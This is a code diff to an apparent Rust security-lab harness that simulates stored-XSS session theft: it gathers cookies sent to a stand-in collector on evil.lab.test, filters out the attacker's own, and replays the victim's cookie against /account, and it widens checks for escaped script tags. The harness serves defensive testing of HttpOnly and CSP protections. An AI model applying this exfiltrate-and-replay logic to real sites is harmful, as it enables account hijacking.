@@ -9,7 +9,7 @@
 use rand::Rng;
 use sessionlab_browser::{EXFILTRATE_COOKIES_TEMPLATE, ScriptEffect};
 
-use crate::actors::{log_in, probe_account, read_own_note};
+use crate::actors::{log_in, probe_account, read_own_note, session_id, short};
 use crate::evil_site::EvilSite;
 use crate::lab::{RunContext, RunError, plant_cookie};
 use crate::outcome::{Actor, Verdict};
@@ -69,73 +69,77 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         return Ok(Verdict::blocked(browser_did));
     }
 
+    // The attacker's own browser ran the payload too when it showed the guestbook:
+    // their own cookie is in the collection, and is not worth replaying.
+    let own_id = session_id(ctx, &attacker);
     let reports = evil.collected(&token);
-    let stolen: Vec<String> = reports
+    let mut stolen: Vec<String> = Vec::new();
+    for report in &reports {
+        for (name, value) in report
+            .data
+            .split(';')
+            .filter_map(|pair| pair.trim().split_once('='))
+        {
+            let value = value.to_string();
+            if name == ctx.target.session_cookie
+                && Some(&value) != own_id.as_ref()
+                && !stolen.contains(&value)
+            {
+                stolen.push(value);
+            }
+        }
+    }
+    let received: Vec<String> = reports
         .iter()
-        .flat_map(|r| {
-            r.data
-                .split(';')
-                .map(|c| c.trim().to_string())
-                .collect::<Vec<_>>()
-        })
-        .filter_map(|pair| {
-            let (name, value) = pair.split_once('=')?;
-            (name == ctx.target.session_cookie).then(|| value.to_string())
-        })
+        .map(|r| format!("{:?}", short(&r.data)))
         .collect();
-    let received = reports
-        .iter()
-        .map(|r| format!("{:?}", r.data))
-        .collect::<Vec<_>>()
-        .join(", ");
     ctx.step(
         Actor::Attacker,
         "read the collector on evil.lab.test",
         format!(
             "received {} report(s): {}",
             reports.len(),
-            if received.is_empty() {
-                "none".into()
-            } else {
-                received
-            }
+            received.join(", ")
         ),
     );
-    let Some(stolen_id) = stolen.first() else {
+    if stolen.is_empty() {
         let evidence = format!(
-            "the script ran, but the collector received no session cookie: `{}` is HttpOnly, invisible to document.cookie",
+            "the script ran, but the collector received no session cookie of the victim: `{}` is HttpOnly, invisible to document.cookie",
             ctx.target.session_cookie
         );
         return Ok(Verdict::blocked(evidence));
-    };
-
-    let mut replay = ctx.browser("attacker");
-    let account = ctx.app_url("/account");
-    plant_cookie(&mut replay, &account, &ctx.target.session_cookie, stolen_id);
-    let probe = probe_account(&mut replay, account).await?;
-    if probe.shows(&note) {
-        let evidence = format!(
-            "the collector received the session cookie from document.cookie; replayed, it showed {}'s private note",
-            ctx.victim.username
-        );
-        ctx.step(
-            Actor::Attacker,
-            "replayed the stolen session cookie on /account",
-            &evidence,
-        );
-        Ok(Verdict::compromised(evidence))
-    } else {
-        let evidence = format!(
-            "the stolen cookie opened nothing: /account answered {}",
-            probe.describe()
-        );
-        ctx.step(
-            Actor::Attacker,
-            "replayed the stolen session cookie on /account",
-            &evidence,
-        );
-        Ok(Verdict::blocked(evidence))
     }
+
+    let account = ctx.app_url("/account");
+    let mut last_probe = None;
+    for stolen_id in &stolen {
+        let mut replay = ctx.browser("attacker");
+        plant_cookie(&mut replay, &account, &ctx.target.session_cookie, stolen_id);
+        let probe = probe_account(&mut replay, account.clone()).await?;
+        if probe.shows(&note) {
+            let evidence = format!(
+                "the collector received the victim's session cookie from document.cookie; replayed, it showed {}'s private note",
+                ctx.victim.username
+            );
+            ctx.step(
+                Actor::Attacker,
+                "replayed the stolen session cookie on /account",
+                &evidence,
+            );
+            return Ok(Verdict::compromised(evidence));
+        }
+        last_probe = Some(probe);
+    }
+    let evidence = format!(
+        "the stolen cookie opened nothing: /account answered {}",
+        last_probe.map(|p| p.describe()).unwrap_or_default()
+    );
+    ctx.step(
+        Actor::Attacker,
+        "replayed the stolen session cookie on /account",
+        &evidence,
+    );
+    Ok(Verdict::blocked(evidence))
 }
 
 /// What the victim's browser did with the attacker's entry, in one line.
@@ -158,7 +162,11 @@ fn describe_effects(effects: &[&ScriptEffect], body: &str) -> String {
             "the browser refused to run the inline script: Content-Security-Policy `{policy}`"
         );
     }
-    if body.contains("&lt;script&gt;") || body.contains("&lt;script>") {
+    let lowered = body.to_ascii_lowercase();
+    if ["&lt;script", "&#60;script", "&#x3c;script"]
+        .iter()
+        .any(|escaped| lowered.contains(escaped))
+    {
         return "the payload reached the page as escaped text, so there was no script to run"
             .into();
     }
